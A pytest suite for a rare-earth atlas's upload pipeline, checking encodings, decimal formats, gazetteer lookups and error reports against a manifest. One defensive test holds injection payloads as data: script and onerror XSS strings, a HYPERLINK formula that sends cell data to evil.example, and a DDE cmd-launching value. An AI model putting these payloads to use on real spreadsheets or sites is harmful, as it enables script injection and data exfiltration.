"""The upload corpus: realistic messy and broken files (tests/fixtures/uploads) run through the
whole pipeline (read, guess the kind, validate) and checked against MANIFEST.csv.

The files are committed (made once by tests/fixtures/uploads/make_corpus.py) and read here as
they are. Expectations are what a careful analyst expects from each file. Where the code
disagrees, the test states the right expectation and is marked ``xfail(strict=True)`` with the
reason (see ``KNOWN``), so a fix shows up as an unexpected pass and the mark must be removed.
"""

from __future__ import annotations

import csv
import re
from collections import Counter
from functools import cache
from pathlib import Path

import pandas as pd
import pytest

from rare_earth_atlas.data.reference import load_reference
from rare_earth_atlas.uploads.country_year import validate_country_year
from rare_earth_atlas.uploads.facilities import validate_facilities
from rare_earth_atlas.uploads.kinds import guess_kind, match_columns
from rare_earth_atlas.uploads.pipeline import process_upload
from rare_earth_atlas.uploads.reader import ReadResult, UploadError, read_upload

CORPUS = Path(__file__).resolve().parent.parent / "fixtures" / "uploads"
NOT_UPLOADS = {"MANIFEST.csv", "make_corpus.py"}
with (CORPUS / "MANIFEST.csv").open(encoding="utf-8", newline="") as handle:
    MANIFEST = {row["file"]: row for row in csv.DictReader(handle)}
KINDS = ("facilities", "country_year", "demand_assumptions")
VALIDATED = [f for f, row in MANIFEST.items() if row["expect"] in ("facilities", "country_year")]
ERRORS = [f for f, row in MANIFEST.items() if row["expect"] == "error"]
REFUSED_BY_READER = [f for f in ERRORS if MANIFEST[f]["error_contains"]]
SIZE_LIMITS = {"error_over_size_limit.csv": 2_000}  # bytes: tests the limit without a 50 MB file
# Mojibake: the replacement character, UTF-8 read as Windows-1252 or Latin-1 ("Ã©", "â€”", "Â"),
# UTF-8 Chinese read as Latin-1 ("å®"), GBK's "锟斤拷", a stray BOM or NUL.
MOJIBAKE = ("\ufffd", "Ã", "Â", "â€", "å®", "锟斤拷", "\ufeff", "ï»¿", "\x00")

# (test, case) -> why the code disagrees with the expectation. Each is a discrepancy for the owner.
# Expectations the code does not meet yet, each with its reason (none at present).
KNOWN: dict[tuple[str, str], str] = {}


def _param(test: str, case: str, *values):
    marks = [pytest.mark.xfail(strict=True, reason=KNOWN[(test, case)])] if (test, case) in KNOWN else []
    return pytest.param(*(values or (case,)), id=case, marks=marks)


@cache
def _bytes(file: str) -> bytes:
    return (CORPUS / file).read_bytes()


def _read(file: str) -> ReadResult:
    if file in SIZE_LIMITS:
        return read_upload(_bytes(file), file, max_bytes=SIZE_LIMITS[file])
    return read_upload(_bytes(file), file)


@cache
def _loaded(file: str) -> ReadResult:
    return _read(file)


@cache
def _validate(file: str):
    """The manifest's kind's validator on the columns it maps for that kind (cached: tests only read it)."""
    read = _loaded(file)
    kind = MANIFEST[file]["expect"]
    mapping = match_columns(list(read.table.columns), kind)
    return (validate_facilities if kind == "facilities" else validate_country_year)(read, mapping)


@cache
def _pipeline(file: str):
    """The whole pipeline on a file, as the page runs it (the kind it decides, for one)."""
    return process_upload(_bytes(file), file, load_reference())


def _problem(text: str) -> str:
    return re.sub(r" \(use one of: .*\)$", "", text)


# --- the corpus itself ---------------------------------------------------------------------


def test_the_manifest_lists_every_file_and_the_files_are_small():
    on_disk = {p.name for p in CORPUS.iterdir() if p.is_file() and p.name not in NOT_UPLOADS}
    assert on_disk == set(MANIFEST)
    assert len(MANIFEST) >= 28
    for file, row in MANIFEST.items():
        assert (CORPUS / file).stat().st_size < 200_000, file
        assert row["description"].strip() and "\n" not in row["description"], file
        assert row["expect"] in (*KINDS, "error"), file
        counts = [row["read"], row["kept"], row["rejected"]]
        if row["expect"] in ("facilities", "country_year"):
            assert all(c.isdigit() for c in counts), file
            assert int(row["read"]) == int(row["kept"]) + int(row["rejected"]), file
        else:
            assert counts == ["", "", ""], file


# --- every file: the outcome the manifest expects --------------------------------------------


@pytest.mark.parametrize("file", [_param("outcome", f) for f in MANIFEST])
def test_outcome(file):
    row = MANIFEST[file]
    if row["expect"] == "error":
        if row["error_contains"]:
            with pytest.raises(UploadError) as caught:
                _read(file)
            assert row["error_contains"] in str(caught.value)
        else:  # a clean table with nothing recognisable: no kind is guessed, the page must ask
            assert _pipeline(file).kind is None and "No recognisable columns" in _pipeline(file).error
        return
    outcome = _pipeline(file)
    assert outcome.kind == row["expect"], (outcome.error, outcome.guess)
    if row["expect"] in ("facilities", "country_year"):
        result = _validate(file)
        assert (result.read, result.kept, result.rejected) == (int(row["read"]), int(row["kept"]), int(row["rejected"]))


@pytest.mark.parametrize("file", [_param("invariants", f) for f in VALIDATED])
def test_counts_add_up_and_every_rejected_value_is_reported_with_its_line(file):
    read = _loaded(file)
    result = _validate(file)
    assert result.read == result.kept + result.rejected
    lines = list(read.lines)
    report = result.report
    assert report["line"].map(lambda n: int(n) in set(lines)).all(), "every report row names a file line"
    if MANIFEST[file]["expect"] == "facilities":
        assert result.in_file == len(lines)  # rows set aside for their commodities are counted, not read
        dropped = report[report["action"] == "row not used"]
        assert len(dropped) == result.rejected and dropped["line"].is_unique
        kept_lines = set(result.facilities["line"].astype(int))
        assert kept_lines.isdisjoint(set(dropped["line"].astype(int)))
        assert len(kept_lines | set(dropped["line"].astype(int))) == result.read
    else:
        dropped = report[report["action"] == "value not used"]
        assert len(dropped) == result.rejected
        per_line = result.read // len(lines)
        assert per_line * len(lines) == result.read
        accounted = Counter(result.values["line"].astype(int)) + Counter(dropped["line"].astype(int))
        assert accounted == Counter({line: per_line for line in lines}), "each value is kept or reported, once"
        assert dropped["value"].notna().all() and dropped["problem"].str.len().gt(0).all()


@pytest.mark.parametrize("file", [f for f in MANIFEST if f not in REFUSED_BY_READER])
def test_read_cells_have_no_mojibake(file):
    table = _loaded(file).table
    texts = [str(c) for c in table.columns] + [str(v) for v in table.to_numpy().ravel()]
    bad = [t for t in texts if any(marker in t for marker in MOJIBAKE)]
    assert not bad, bad[:5]


@pytest.mark.parametrize("file", [_param("message", f) for f in REFUSED_BY_READER])
def test_an_unusable_file_gets_one_sentence_that_says_what_to_do(file):
    with pytest.raises(UploadError) as caught:
        _read(file)
    message = str(caught.value)
    assert "\n" not in message and len(message) < 300 and message.endswith(".")
    assert "Traceback" not in message and "Error:" not in message
    assert any(word in message for word in ("template", "Save", "Split")), message


# --- particular files: values, places, report lines and layout --------------------------------

# id, file, (facility name) or (iso3, year, unit), expected fields; lat/lon within 0.01 degree
# (1.5 degrees for the *-is-in-* checks, which ask only for the right region).
# fmt: off
SPOTS = [
    ("workbook-silmet-placed-from-city", "facilities_workbook_two_sheets.xlsx", "NPM Silmet", {"location_precision": "city", "lat": 59.397, "capacity_value": 3000.0}),
    ("workbook-numbers-stay-numbers", "facilities_workbook_two_sheets.xlsx", "Mountain Pass", {"lat": 35.4769, "lon": -115.5322, "capacity_value": 60000.0}),
    ("bom-csv-keeps-chinese-operator", "facilities_excel_csv_utf8_bom_crlf.csv", "Xiamen Tungsten Baotou Golden Dragon", {"location_precision": "site", "capacity_value": 5000.0}),
    ("german-template-decimal-comma-coordinates", "facilities_template_german_excel_semicolon.csv", "VAC eMobility Hanau", {"lat": 50.1264, "lon": 8.9283, "location_precision": "site"}),
    ("german-template-three-decimals-are-not-thousands", "facilities_template_german_excel_semicolon.csv", "Caremag", {"lat": 43.413, "lon": -0.619, "location_precision": "site"}),
    ("german-template-capacity-1.000-is-1000", "facilities_template_german_excel_semicolon.csv", "VAC eMobility Hanau", {"capacity_value": 1000.0}),
    ("german-template-capacity-3.000-is-3000", "facilities_template_german_excel_semicolon.csv", "NPM Silmet", {"capacity_value": 3000.0}),
    ("cp1252-accents-survive", "facilities_windows1252_accents.csv", "CBMM escritório São Paulo", {"city": "São Paulo", "location_precision": "city", "lat": -23.5475}),
    ("cp1252-em-dash-survives", "facilities_windows1252_accents.csv", "Caremag — Lacq", {"operator": "Carester SAS", "capacity_value": 2000.0}),
    ("utf16-vietnamese-name", "facilities_excel_unicode_text_utf16.txt", "Mỏ đất hiếm Đông Pao", {"iso3": "VNM", "city": "Lai Châu"}),
    ("utf16-korea-republic-of", "facilities_excel_unicode_text_utf16.txt", "성림첨단산업 대구공장", {"iso3": "KOR", "country": "Korea, Republic of"}),
    ("gb18030-chinese-country", "facilities_gb18030_chinese.csv", "包头华美稀土高科有限公司", {"iso3": "CHN", "capacity_value": 106661.0, "lat": 40.6516}),
    ("gb18030-ningbo-placed-from-chinese-city", "facilities_gb18030_chinese.csv", "宁波韵升股份有限公司", {"location_precision": "city", "lat": 29.878}),
    ("city-only-ganzhou", "facilities_city_only_no_coordinates.csv", "JL Mag headquarters and Ganzhou plant", {"location_precision": "city", "lat": 25.8466, "lon": 114.9326}),
    ("bad-rows-bad-latitude-falls-back-to-city", "facilities_bad_rows.csv", "Ningbo magnet works", {"location_precision": "city", "lat": 29.878, "capacity_value": 15000.0}),
    ("bad-rows-negative-capacity-left-empty", "facilities_bad_rows.csv", "Mountain Pass", {"capacity_value": None, "capacity_unit": ""}),
    ("bad-rows-na-capacity-left-empty", "facilities_bad_rows.csv", "Kvanefjeld", {"capacity_value": None, "status": "blocked"}),
    ("quoted-doubled-quotes", "facilities_quoted_fields_newlines.csv", 'The "Mountain Pass" mine', {"operator": "MP Materials"}),
    ("quoted-thousands-comma-capacity", "facilities_quoted_fields_newlines.csv", "Lynas Malaysia, Gebeng", {"capacity_value": 10500.0}),
    ("blank-lines-hanau-has-site-coordinates", "facilities_blank_lines_and_title_above_header.csv", "VAC Hanau", {"lat": 50.1264, "location_precision": "site"}),
    ("degree-signs-mt-weld-south-is-negative", "facilities_coordinates_degree_signs.csv", "Mt Weld", {"lat": -28.86, "lon": 122.55, "location_precision": "site"}),
    ("ambiguous-laverton-is-in-western-australia", "facilities_city_only_ambiguous_towns.csv", "Mt Weld concentrator", {"lat": -28.63, "lon": 122.40}),
    ("ambiguous-longnan-is-in-jiangxi", "facilities_city_only_ambiguous_towns.csv", "Longnan ionic clay separation plant", {"lat": 24.91, "lon": 114.79}),
    ("ambiguous-xinfeng-is-in-jiangxi", "facilities_city_only_ambiguous_towns.csv", "Xinfeng separation plant", {"lat": 25.39, "lon": 114.92}),
    ("ambiguous-changting-is-in-fujian", "facilities_city_only_ambiguous_towns.csv", "Changting Jinlong Rare Earth", {"lat": 25.84, "lon": 116.36}),
    ("roundtrip-ningbo-keeps-city-precision", "facilities_roundtrip_atlas_download.csv", "Ningbo Yunsheng NdFeB magnet plant", {"location_precision": "city"}),
    ("roundtrip-kachin-keeps-region-precision", "facilities_roundtrip_atlas_download.csv", "Kachin rare earth mining belt (Pangwa-Chipwi, Special Region 1)", {"location_precision": "region"}),
    ("roundtrip-mt-weld-capacity", "facilities_roundtrip_atlas_download.csv", "Lynas Mt Weld mine and concentrator", {"capacity_value": 12000.0, "capacity_unit": "t NdPr oxide/yr"}),
    ("mcs-china-2024-estimate-from-column-name", "country_year_usgs_mcs_world_wide.csv", ("CHN", 2024, ""), {"value": 270000.0, "estimated": True}),
    ("mcs-us-2023-reported", "country_year_usgs_mcs_world_wide.csv", ("USA", 2023, ""), {"value": 41600.0, "estimated": False}),
    ("mcs-madagascar-est-marker", "country_year_usgs_mcs_world_wide.csv", ("MDG", 2024, ""), {"value": 2000.0, "estimated": True}),
    ("long-burma-lower-bound", "country_year_long_country_spellings.csv", ("MMR", 2024, "t REO"), {"value": 31000.0, "lower_bound": True}),
    ("long-viet-nam-300e", "country_year_long_country_spellings.csv", ("VNM", 2024, "t REO"), {"value": 300.0, "estimated": True}),
    ("long-korea-republic-of", "country_year_long_country_spellings.csv", ("KOR", 2024, "t"), {"value": 3250.0}),
    ("long-laos-est", "country_year_long_country_spellings.csv", ("LAO", 2024, "t REO"), {"value": 2500.0, "estimated": True}),
    ("german-mixed-china-share-69,23", "country_year_german_mixed_decimal_comma.csv", ("CHN", 2024, "%"), {"value": 69.23}),
    ("german-mixed-usa-share", "country_year_german_mixed_decimal_comma.csv", ("USA", 2024, "%"), {"value": 11.54}),
    ("german-mixed-china-tonnes-270.000", "country_year_german_mixed_decimal_comma.csv", ("CHN", 2024, "t"), {"value": 270000.0}),
    ("german-mixed-australia-tonnes-13.000", "country_year_german_mixed_decimal_comma.csv", ("AUS", 2024, "t"), {"value": 13000.0}),
    ("german-dots-china-270.000", "country_year_german_thousands_dots.csv", ("CHN", 2024, ""), {"value": 270000.0}),
    ("german-dots-russia-2.500", "country_year_german_thousands_dots.csv", ("RUS", 2024, ""), {"value": 2500.0}),
    ("german-dots-brazil-20", "country_year_german_thousands_dots.csv", ("BRA", 2024, ""), {"value": 20.0}),
    ("quote-recovered-ningbo-kept", "facilities_broken_unclosed_quote.csv", "Ningbo magnet plant", {"lat": 29.87, "location_precision": "site"}),
    ("quote-recovered-lines-after-it", "facilities_broken_unclosed_quote.csv", "Mountain Pass", {"lat": 35.48, "lon": -115.53}),
    ("ragged-short-row-does-not-shift-the-next", "facilities_broken_ragged_rows.csv", "Eneabba refinery", {"lat": -29.82, "iso3": "AUS"}),
    ("province-wa-is-western-australia", "facilities_city_only_province_spellings.csv", "Mt Weld concentrator", {"lat": -28.63, "lon": 122.40}),
    ("province-jiangxi-province", "facilities_city_only_province_spellings.csv", "Longnan plant", {"lat": 24.91, "lon": 114.79}),
    ("province-fujian-sheng", "facilities_city_only_province_spellings.csv", "Changting plant", {"lat": 25.84, "lon": 116.36}),
    ("survey-country-from-coordinates", "facilities_survey_no_country.csv", "Yangibana", {"iso3": "AUS", "country": "Australia"}),
    ("owid-production-column-unit", "country_year_owid_grapher.csv", ("CHN", 2023, "t"), {"value": 255000.0, "measure": "Rare earths production"}),
    ("owid-share-column-unit", "country_year_owid_grapher.csv", ("CHN", 2023, "%"), {"value": 68.0}),
    ("iea-first-table-is-mining", "country_year_iea_side_by_side.xlsx", ("AUS", 2030, ""), {"value": 12.0}),
    ("workbook-wide-2024e-is-estimate", "country_year_analyst_workbook_wide.xlsx", ("CHN", 2024, ""), {"value": 270000.0, "estimated": True}),
    ("workbook-wide-float-cell", "country_year_analyst_workbook_wide.xlsx", ("NGA", 2022, ""), {"value": 1300.5, "estimated": False}),
]
# fmt: on


@pytest.mark.parametrize(("file", "key", "expected"), [_param("spot", sid, f, k, e) for sid, f, k, e in SPOTS])
def test_spot_values(file, key, expected):
    result = _validate(file)
    if isinstance(key, str):
        rows = result.facilities[result.facilities["name"] == key]
    else:
        iso3, year, unit = key
        values = result.values
        rows = values[(values["iso3"] == iso3) & (values["year"] == year) & (values["unit"] == unit)]
    assert len(rows) == 1, f"{key!r} not kept exactly once"
    row = rows.iloc[0]
    tolerance = 1.5 if file.endswith(("ambiguous_towns.csv", "province_spellings.csv")) else 0.01
    for field, want in expected.items():
        got = row[field]
        if want is None:
            assert got is None or got != got, (field, got)  # None or NaN
        elif field in ("lat", "lon"):
            assert abs(float(got) - want) <= tolerance, (field, got, want)
        elif isinstance(want, float):
            assert float(got) == pytest.approx(want), (field, got, want)
        else:
            assert got == want, (field, got, want)


# file -> every report row expected: (line, column, value, problem without its "(use one of ...)" list)
REPORTS = {
    "facilities_bad_rows.csv": [
        (2, "lat", "129.87", "latitude 129.87 is outside -90 to 90"),
        (3, "capacity", "lots", "capacity 'lots' is not a number"),
        (4, "capacity", "-45000", "capacity is negative"),
        (5, "country", "Inner Mongolia", "country not recognised"),
        (6, "name", "", "no facility name"),
        (7, "lat", "133.2400", "latitude 133.24 is outside -90 to 90"),
        (7, "city", "", "no valid coordinates and the city is not in the offline gazetteer"),
        (8, "capacity", "TBC", "capacity 'TBC' is not a number"),
        (11, "status", "on hold", "status not recognised"),
    ],
    # A city is looked up within the file's province; where several places there share its name
    # the report lists them (not villages beside a city of two million: Ganzhou), and a place found
    # under another of its names is said so.
    "facilities_city_only_no_coordinates.csv": [
        (
            7,
            "city",
            "Bayan Obo",
            "placed at Tongyangdao, Inner Mongolia (41.77, 109.97), which the gazetteer also calls Bayan Obo",
        ),
    ],
    "facilities_city_only_ambiguous_towns.csv": [
        (
            4,
            "city",
            "Xinfeng",
            "3 places called Xinfeng in Jiangxi; used Jiading, Jiangxi (25.39, 114.92), which the gazetteer also calls Xinfeng; the others: Xinfeng, Jiangxi (27.11, 116.21); Xinfengjie, Jiangxi (27.43, 116.59)",
        ),
        (
            5,
            "city",
            "Changting",
            "placed at Tingzhou, Fujian (25.83, 116.33), which the gazetteer also calls Changting",
        ),
    ],
    "facilities_broken_unclosed_quote.csv": [
        (2, "", "", "line 2 opens a quote that is never closed; lines 2 to 5 were read as one field"),
    ],
    "facilities_broken_ragged_rows.csv": [
        (3, "", "", "line 3 has 7 fields where the header has 6 (a delimiter inside a value that is not in quotes?)"),
        (5, "", "", "line 5 has 3 fields where the header has 6"),
        (3, "country", "Ltd.", "country not recognised"),
        (5, "city", "", "no valid coordinates and the city is not in the offline gazetteer"),
    ],
    "facilities_city_only_province_spellings.csv": [
        (
            6,
            "city",
            "Ganzhou",
            "no place called Ganzhou in Guangdong in the offline gazetteer (elsewhere in China: Ganzhou, Jiangxi (25.85, 114.93); Ganzhou, Jiangxi (28.82, 115.43))",
        ),
        (
            4,
            "city",
            "Changting",
            "placed at Tingzhou, Fujian (25.83, 116.33), which the gazetteer also calls Changting",
        ),
    ],
    "facilities_survey_no_country.csv": [
        (7, "Latitude", "-40.0 / 60.0", "no country column, and the coordinates lie in no country's outline"),
    ],
    "facilities_google_sheets.tsv": [(5, "status", "Under construction", "status not recognised")],
    "facilities_quoted_fields_newlines.csv": [
        (3, "capacity", "unknown", "capacity 'unknown' is not a number"),
        (7, "capacity", "approx. 17500", "capacity 'approx. 17500' is not a number"),
    ],
    "facilities_roundtrip_atlas_download.csv": [],
    "country_year_usgs_mcs_world_wide.csv": [
        (10, "Prod_t_2023", "—", "no number (dash (zero or not available in the source))"),
        (10, "Prod_t_est_2024", "—", "no number (dash (zero or not available in the source))"),
        (12, "Prod_t_2023", "—", "no number (dash (zero or not available in the source))"),
        (12, "Prod_t_est_2024", "—", "no number (dash (zero or not available in the source))"),
        (15, "Prod_t_est_2024", "NA", "no number (not available)"),
        (16, "Prod_t_2023", "W", "no number (withheld)"),
        (20, "Country", "Other countries", "a total or 'other countries' row, not one country"),
        (20, "Country", "Other countries", "a total or 'other countries' row, not one country"),
        (21, "Country", "World total (rounded)", "a total or 'other countries' row, not one country"),
        (21, "Country", "World total (rounded)", "a total or 'other countries' row, not one country"),
    ],
    "country_year_analyst_workbook_wide.xlsx": [
        (5, "2024e", "", "no number (not available)"),
        (6, "2024e", "W", "no number (withheld)"),
        (7, "2021", "", "no number (not available)"),
    ],
}


@pytest.mark.parametrize("file", [_param("report", f) for f in REPORTS])
def test_report_rows(file):
    report = _pipeline(file).result.report  # the validator's rows and the reader's structure problems
    got = Counter((int(r.line), r.column, str(r.value), _problem(r.problem)) for r in report.itertuples())
    assert got == Counter(REPORTS[file])


# file -> (header line, file line of each data row)
LAYOUTS = {
    "facilities_workbook_two_sheets.xlsx": (4, [5, 6, 7, 8, 9, 10, 11]),
    "facilities_blank_lines_and_title_above_header.csv": (6, [7, 8, 10, 11]),
    "facilities_quoted_fields_newlines.csv": (1, [2, 3, 6, 7]),
    "country_year_usgs_mcs_world_wide.csv": (5, list(range(6, 22))),
    "country_year_german_thousands_dots.csv": (4, [5, 6, 7, 8, 9, 10]),
    "demand_assumptions_workbook.xlsx": (3, [4, 5, 6, 7]),
}


@pytest.mark.parametrize("file", [_param("layout", f) for f in LAYOUTS])
def test_header_and_line_numbers(file):
    read = _loaded(file)
    assert (read.header_line, list(read.lines)) == LAYOUTS[file]


def test_injection_payloads_are_kept_verbatim_as_text():
    facilities = _validate("facilities_injection_payloads.csv").facilities
    names, operators = set(facilities["name"]), set(facilities["operator"])
    for payload in (
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "Silmet <iframe src=javascript:alert(1)>",
    ):
        assert payload in names
    for payload in (
        "<img src=x onerror=alert(1)>",
        '=HYPERLINK("http://evil.example/?d="&A1,"Lynas")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "**Neo** Performance _Materials_",
    ):
        assert payload in operators
    report = _validate("facilities_injection_payloads.csv").report
    assert list(report["value"]) == ["-2+3+cmd|' /C calc'!A0"]


def test_the_file_over_the_size_limit_is_otherwise_a_valid_table():
    read = read_upload(_bytes("error_over_size_limit.csv"), "error_over_size_limit.csv")
    assert guess_kind(list(read.table.columns)).kind == "country_year"
    assert len(read.table) == 120


def test_demand_files_keep_their_numbers_as_written_for_the_next_step():
    german = _loaded("demand_assumptions_german_excel.csv").table
    assert german.loc[0, "Units (base year)"] == "12.000.000" and german.loc[1, "Magnet kg per unit"] == "0,72"
    assert german.loc[3, "Label"] == "Wärmepumpen (Inverter)"
    workbook = _loaded("demand_assumptions_workbook.xlsx").table
    assert workbook.loc[0, "ree_content_pct"] == "0.31"  # typed as 31 % in Excel


ARROW_READABLE = [f for f, row in MANIFEST.items() if row["expect"] != "error" and not f.endswith(".xlsx")]


@pytest.mark.parametrize("file", ARROW_READABLE)
def test_the_pyarrow_path_for_large_files_reads_every_file_like_the_csv_module(file):
    """Large files go through pyarrow when it gives the same table; forcing that path on each
    corpus file must give the csv module's table, line numbers and validation, or decline."""
    by_csv = read_upload(_bytes(file), file)
    fast = read_upload(_bytes(file), file, arrow_min_bytes=0)
    if not any(isinstance(dtype, pd.ArrowDtype) for dtype in fast.table.dtypes):
        return  # pyarrow declined (quoted line breaks, ragged rows...): the csv module read it
    assert list(fast.table.columns) == list(by_csv.table.columns)
    assert (
        fast.table.astype(str).apply(lambda c: c.str.strip()).values.tolist()
        == by_csv.table.astype(str).values.tolist()
    )
    assert list(fast.lines) == list(by_csv.lines) and fast.header_line == by_csv.header_line
    assert fast.encoding == by_csv.encoding and fast.delimiter == by_csv.delimiter
    if MANIFEST[file]["expect"] == "country_year":
        mapping = guess_kind(list(by_csv.table.columns)).mapping
        a, b = validate_country_year(fast, mapping), validate_country_year(by_csv, mapping)
        assert a.values.astype(str).equals(b.values.astype(str)) and a.report.astype(str).equals(b.report.astype(str))
